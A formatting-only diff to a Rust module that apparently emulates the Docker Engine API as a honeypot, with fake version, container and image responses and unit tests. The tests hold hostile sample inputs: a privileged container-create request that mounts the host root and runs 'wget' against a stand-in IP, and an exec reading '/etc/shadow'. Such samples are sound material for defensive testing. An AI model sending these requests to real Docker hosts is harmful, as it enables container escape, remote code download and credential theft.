@@ -129,9 +129,12 @@ pub fn query<'a>(pairs: &'a [(String, String)], key: &str) -> Option<&'a str> {
 /// A JSON string array (`Cmd`, `Entrypoint`) or string as one command line.
 fn words(v: &Value) -> String {
     match v {
-        Value::Array(items) => {
-            items.iter().take(64).map(|i| i.as_str().map_or_else(|| i.to_string(), str::to_string)).collect::<Vec<_>>().join(" ")
-        }
+        Value::Array(items) => items
+            .iter()
+            .take(64)
+            .map(|i| i.as_str().map_or_else(|| i.to_string(), str::to_string))
+            .collect::<Vec<_>>()
+            .join(" "),
         Value::String(s) => s.clone(),
         _ => String::new(),
     }
@@ -166,7 +169,12 @@ impl Create {
 
     /// The command the container would run (entrypoint, then cmd).
     pub fn command_line(&self) -> String {
-        [self.entrypoint.as_str(), self.cmd.as_str()].iter().filter(|s| !s.is_empty()).copied().collect::<Vec<_>>().join(" ")
+        [self.entrypoint.as_str(), self.cmd.as_str()]
+            .iter()
+            .filter(|s| !s.is_empty())
+            .copied()
+            .collect::<Vec<_>>()
+            .join(" ")
     }
 }
 
@@ -334,8 +342,20 @@ pub fn resident(e: &Engine, now_s: i64) -> Vec<Container> {
         )];
     }
     vec![
-        mk("3f9a2c7d1e5b8a4f6c0d2e9b7a3c5f1d8e4b6a2c9f7d3e1b5a8c4f6d2e0b9a7c", "web", "nginx:1.25", "/docker-entrypoint.sh nginx -g 'daemon off;'", base),
-        mk("8c1e5a9d3f7b2c6e0a4d8f2b6c9e3a7d1f5b9c2e6a0d4f8b3c7e1a5d9f2b6c0e", "cache", "redis:7.2", "docker-entrypoint.sh redis-server", base + 60),
+        mk(
+            "3f9a2c7d1e5b8a4f6c0d2e9b7a3c5f1d8e4b6a2c9f7d3e1b5a8c4f6d2e0b9a7c",
+            "web",
+            "nginx:1.25",
+            "/docker-entrypoint.sh nginx -g 'daemon off;'",
+            base,
+        ),
+        mk(
+            "8c1e5a9d3f7b2c6e0a4d8f2b6c9e3a7d1f5b9c2e6a0d4f8b3c7e1a5d9f2b6c0e",
+            "cache",
+            "redis:7.2",
+            "docker-entrypoint.sh redis-server",
+            base + 60,
+        ),
     ]
 }
 
@@ -407,7 +427,11 @@ pub fn inspect(c: &Container) -> Value {
 /// `images/json`.
 pub fn images(e: &Engine, now_s: i64) -> Value {
     let list: &[(&str, &str, u64)] = if e.os == "windows" {
-        &[("mcr.microsoft.com/windows/servercore/iis:windowsservercore-ltsc2019", "a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1", 5_217_654_321)]
+        &[(
+            "mcr.microsoft.com/windows/servercore/iis:windowsservercore-ltsc2019",
+            "a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1",
+            5_217_654_321,
+        )]
     } else {
         &[
             ("nginx:1.25", "a8758716bb6aa4d90071160d27028fe4eaee7ce8166221a97d30440c8eac2be6", 187_693_192),
@@ -482,10 +506,16 @@ mod tests {
         assert_eq!(strip_version("/v1.x/y"), (None, "/v1.x/y"));
         assert_eq!(strip_version("/v1.41"), (None, "/v1.41"));
         let q = parse_query("fromImage=alpine&tag=latest&x");
-        assert_eq!((query(&q, "fromImage"), query(&q, "tag"), query(&q, "x")), (Some("alpine"), Some("latest"), Some("")));
+        assert_eq!(
+            (query(&q, "fromImage"), query(&q, "tag"), query(&q, "x")),
+            (Some("alpine"), Some("latest"), Some(""))
+        );
         let body = br#"{"Image":"alpine","Cmd":["sh","-c","wget http://203.0.113.7/x"],"HostConfig":{"Binds":["/:/host"],"Privileged":true,"NetworkMode":"host","PidMode":"host","CapAdd":["SYS_ADMIN"]}}"#;
         let c = parse_create(body).unwrap();
-        assert_eq!((c.image.as_str(), c.cmd.as_str(), c.privileged, c.network_mode.as_str()), ("alpine", "sh -c wget http://203.0.113.7/x", true, "host"));
+        assert_eq!(
+            (c.image.as_str(), c.cmd.as_str(), c.privileged, c.network_mode.as_str()),
+            ("alpine", "sh -c wget http://203.0.113.7/x", true, "host")
+        );
         assert!(c.mounts_host_root());
         assert_eq!(c.cap_add, vec!["SYS_ADMIN".to_string()]);
         assert_eq!(parse_exec(br#"{"Cmd":["cat","/etc/shadow"],"Tty":true}"#), Some(("cat /etc/shadow".into(), true)));
@@ -496,14 +526,21 @@ mod tests {
     fn answers_look_like_dockerd() {
         let e = engine(Persona::Mixed);
         let v = version(e);
-        assert_eq!((v["Version"].as_str(), v["ApiVersion"].as_str(), v["Os"].as_str()), (Some("26.1.4"), Some("1.45"), Some("linux")));
+        assert_eq!(
+            (v["Version"].as_str(), v["ApiVersion"].as_str(), v["Os"].as_str()),
+            (Some("26.1.4"), Some("1.45"), Some("linux"))
+        );
         let i = info(e, 2, 2, "2024-01-01T00:00:00Z");
         assert_eq!(i["OperatingSystem"], "Debian GNU/Linux 12 (bookworm)");
         let listed = list(&resident(e, 1_700_000_000), 1_700_000_000);
         assert_eq!(listed[0]["Status"], "Up 3 weeks");
-        assert_eq!((up_for(1), up_for(125), up_for(7_200)), ("Up 1 second".into(), "Up 2 minutes".into(), "Up 2 hours".into()));
+        assert_eq!(
+            (up_for(1), up_for(125), up_for(7_200)),
+            ("Up 1 second".into(), "Up 2 minutes".into(), "Up 2 hours".into())
+        );
         assert!(container_name("a0").contains('_'));
-        assert!(pull_progress("alpine", "latest", &"ab".repeat(32)).contains("Status: Downloaded newer image for alpine:latest"));
+        assert!(pull_progress("alpine", "latest", &"ab".repeat(32))
+            .contains("Status: Downloaded newer image for alpine:latest"));
         assert_eq!(stdout_frame(b"hi"), b"\x01\0\0\0\0\0\0\x02hi");
         assert_eq!(api_version("1.45"), (1, 45));
         assert_eq!(full_image("alpine"), "docker.io/library/alpine");
